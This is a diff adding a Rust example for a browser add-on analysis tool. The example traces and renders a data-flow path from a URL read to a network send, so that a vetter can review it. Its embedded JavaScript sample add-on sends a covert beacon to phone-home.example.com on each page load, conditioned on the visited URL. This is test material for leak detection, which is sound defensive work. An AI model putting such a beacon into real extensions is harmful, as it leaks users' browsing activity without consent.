@@ -1,0 +1,78 @@
+//! Explaining a signature entry to the vetter: reconstruct a concrete
+//! dependence path (witness) from source to sink, print the statements
+//! involved (a PDG chop), and emit a Graphviz rendering -- the tooling
+//! Figure 2 of the paper is a hand-drawn instance of.
+//!
+//! Run with: `cargo run --example explain_flow`
+
+use addon_sig::analyze_addon;
+use jspdg::{chop, pdg_to_dot, witness_path, SliceFilter};
+
+const ADDON: &str = r#"
+function report() {
+  var url = content.location.href;
+  var interesting = false;
+  if (url != "about:blank") {
+    interesting = true;
+  }
+  if (interesting) {
+    var req = new XMLHttpRequest();
+    req.open("GET", "http://phone-home.example.com/beacon", true);
+    req.send(null);
+  }
+}
+gBrowser.addEventListener("load", report, true);
+"#;
+
+fn main() {
+    let report = analyze_addon(ADDON).expect("analyzes");
+    println!("signature:\n{}", report.signature);
+
+    // Find the source statement (URL read) and the sink (send call).
+    let source = *report
+        .analysis
+        .source_stmts()
+        .iter()
+        .find(|(_, kinds)| kinds.contains(&jsanalysis::SourceKind::Url))
+        .map(|(s, _)| s)
+        .expect("url source");
+    let sink = report
+        .analysis
+        .sinks
+        .iter()
+        .find(|s| s.kind == jsanalysis::SinkKind::Send)
+        .expect("send sink")
+        .stmt;
+
+    // The witness path, hop by hop, with edge annotations.
+    println!("witness path (source line -> ... -> sink line):");
+    let path = witness_path(&report.pdg, source, sink, SliceFilter::All)
+        .expect("signature implies a path");
+    for (stmt, ann) in &path {
+        let line = report.lowered.program.stmt(*stmt).span.line;
+        let text = jsir::pretty::stmt_to_string(&report.lowered.program, *stmt);
+        match ann {
+            Some(a) => println!("  L{line:<3} {text}\n        --[{a}]-->"),
+            None => println!("  L{line:<3} {text}"),
+        }
+    }
+
+    // The chop: everything on any dependence path between the two.
+    let chopped = chop(&report.pdg, source, sink, SliceFilter::All);
+    let mut lines: Vec<u32> = chopped
+        .iter()
+        .map(|s| report.lowered.program.stmt(*s).span.line)
+        .collect();
+    lines.sort_unstable();
+    lines.dedup();
+    println!("\nsource lines involved in the flow: {lines:?}");
+
+    // Graphviz rendering for the reviewer.
+    let dot = pdg_to_dot(&report.lowered.program, &report.pdg);
+    println!(
+        "\nPDG has {} edges; DOT rendering is {} bytes \
+         (pipe to `dot -Tsvg` to view).",
+        report.pdg.edge_count(),
+        dot.len()
+    );
+}
